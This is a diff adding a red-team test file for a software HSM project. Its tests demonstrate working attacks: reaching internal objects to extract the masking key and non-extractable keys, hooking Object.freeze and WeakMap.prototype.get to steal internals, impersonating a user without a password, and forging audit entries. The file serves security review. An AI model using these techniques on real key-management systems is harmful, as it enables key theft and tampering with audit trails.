@@ -1,0 +1,122 @@
+// Red-team attacks on the promises of the README's "Threat model" and "The HSM device".
+// Each `it` is a finding: it asserts the attack SUCCEEDS (so it passes on the code under review
+// and must be inverted once the hole is fixed). Tests named "HELD:" assert a defence that held.
+import { createCipheriv, createDecipheriv } from "node:crypto";
+import { afterEach, describe, expect, it } from "vitest";
+
+import { type Device, H, activatedDevice, cuSession, expectHsmError, tokenAesKey } from "../hsm/fixture.js";
+import { expectCkr } from "../helpers.js";
+
+let device: Device | undefined;
+afterEach(() => {
+  device?.cleanup();
+  device = undefined;
+});
+
+const RW = H.CKF_SERIAL_SESSION | H.CKF_RW_SESSION;
+const IV = Buffer.alloc(12, 3);
+const gcm = { mechanism: H.CKM_AES_GCM, parameter: { type: H.CK_PARAMS_AES_GCM, iv: IV, tagBits: 128 } };
+
+/** The victim: alice logged in, with a sensitive, non-extractable token key. */
+function victimOn(hsm: H.Hsm) {
+  const victim = cuSession(hsm, "alice", "alice-password");
+  const locked = tokenAesKey(victim.pkcs11, victim.session, "locked", [
+    { type: H.CKA_EXTRACTABLE, value: false }, { type: H.CKA_SENSITIVE, value: true },
+  ]);
+  victim.pkcs11.C_EncryptInit(victim.session, gcm, locked);
+  const ciphertext = Buffer.from(victim.pkcs11.C_Encrypt(victim.session, Buffer.from("secret message"), Buffer.alloc(64)));
+  return { ...victim, locked, ciphertext };
+}
+
+/** Decrypts an algorithm-1 masked record's attributes with a masking key (GCM is CTR: no AAD needed for the plaintext). */
+function valueFromRecord(maskingKey: Buffer, record: Buffer): { label?: string; value?: Buffer } {
+  const iv = record.subarray(6, 18), body = record.subarray(18, record.length - 16);
+  const plain = createDecipheriv("aes-256-gcm", maskingKey, iv).update(body);
+  const out: { label?: string; value?: Buffer } = {};
+  let offset = 4;
+  for (let i = 0, n = plain.readUInt32LE(0); i < n; i++) {
+    const type = Number(plain.readBigUInt64LE(offset)), length = plain.readUInt32LE(offset + 8);
+    offset += 12;
+    if (type === H.CKA_VALUE) out.value = Buffer.from(plain.subarray(offset, offset + length));
+    if (type === H.CKA_LABEL) out.label = plain.subarray(offset, offset + length).toString();
+    offset += length;
+  }
+  return out;
+}
+
+function gcmEncrypt(key: Buffer, plaintext: Buffer): Buffer {
+  const c = createCipheriv("aes-256-gcm", key, IV);
+  return Buffer.concat([c.update(plaintext), c.final(), c.getAuthTag()]);
+}
+
+describe("F1: an Actor reaches the Hsm, and Hsm.snapshot() puts the masking key in JavaScript", () => {
+  it("a CU's own Actor yields every non-extractable key's plaintext", () => {
+    device = activatedDevice();
+    const { hsm } = device;
+    const victim = victimOn(hsm);
+    // Bob is a CU with an Actor of his own (e.g. handed to his service to call shareKey).
+    const bob = hsm.login("bob", "bob-password");
+    const reached = (bob as unknown as { hsm: H.Hsm }).hsm;
+    expect(reached).toBe(hsm);
+    const snapshot = reached.snapshot();
+    expect(snapshot.maskingKey).toHaveLength(32); // "never passed through JavaScript"
+    const record = snapshot.keys.map((k) => valueFromRecord(snapshot.maskingKey, k.record)).find((r) => r.label === "locked")!;
+    // Alice's CKA_EXTRACTABLE=false, CKA_SENSITIVE=true key, in clear, in Bob's hands:
+    expect(gcmEncrypt(record.value!, Buffer.from("secret message"))).toEqual(victim.ciphertext);
+    // ... and every user's password hash.
+    expect(snapshot.users.find((u) => u.name === "alice")!.hash).toBeDefined();
+    // The same Actor can also close the whole HSM for every application.
+    reached.close();
+    expectHsmError(() => hsm.login("alice", "alice-password"), "CLOSED");
+  });
+});
+
+describe("F2: prototype hooks take the Hsm and its internals from a PKCS11 application", () => {
+  it("an application that never logs in hooks Object.freeze and WeakMap.prototype.get and gets chip, store and audit", () => {
+    device = activatedDevice();
+    const { hsm } = device;
+    const attacker = hsm.pkcs11(); // never logged in
+    attacker.C_Initialize();
+    const slot = attacker.C_GetSlotList(true)[0];
+    const own = attacker.C_OpenSession(slot, RW);
+
+    let leakedHsm: H.Hsm | undefined;
+    let internals: any;
+    const freeze = Object.freeze;
+    const get = WeakMap.prototype.get;
+    try {
+      Object.freeze = function (o: any) {
+        if (o && typeof o === "object" && "hsm" in o) leakedHsm ??= o.hsm; // every Actor is { username, role, hsm }
+        return freeze(o);
+      } as typeof Object.freeze;
+      WeakMap.prototype.get = function (this: WeakMap<object, unknown>, k: object) {
+        const v = get.call(this, k) as any;
+        if (v && typeof v === "object" && "chip" in v && "store" in v) internals ??= v;
+        return v;
+      };
+      // Any later login by anyone (here: the victim application) hands the attacker the Hsm ...
+      var victim = victimOn(hsm);
+      // ... and any hsm.pkcs11() (the attacker may call it itself now) hands it the internals.
+      leakedHsm!.pkcs11();
+    } finally {
+      Object.freeze = freeze;
+      WeakMap.prototype.get = get;
+    }
+    expect(leakedHsm).toBe(hsm);
+    expect(typeof internals.chip.loginPrincipal).toBe("function");
+
+    // loginPrincipal: the attacker's own session becomes alice's, without her password.
+    internals.chip.loginPrincipal(Number(own.readBigUInt64LE(0)), internals.principalOf("alice"));
+    attacker.C_EncryptInit(own, gcm, victim.locked);
+    expect(Buffer.from(attacker.C_Encrypt(own, Buffer.from("secret message"), Buffer.alloc(64)))).toEqual(victim.ciphertext);
+
+    // The audit append: a forged entry, properly MACed, that verifyAudit accepts.
+    internals.store.transaction(() => internals.audit("DELETE_USER", "admin", null, [], "OK", "forged by an application"));
+    expect(hsm.verifyAudit().ok).toBe(true);
+    expect(hsm.auditLog().at(-1)!.detail).toBe("forged by an application");
+
+    // Masking-key export.
+    const sealed = internals.chip.exportMaskingKeyFor(0, internals.chip.transportPublicKey(0));
+    expect(sealed.length).toBeGreaterThan(32);
+  });
+});
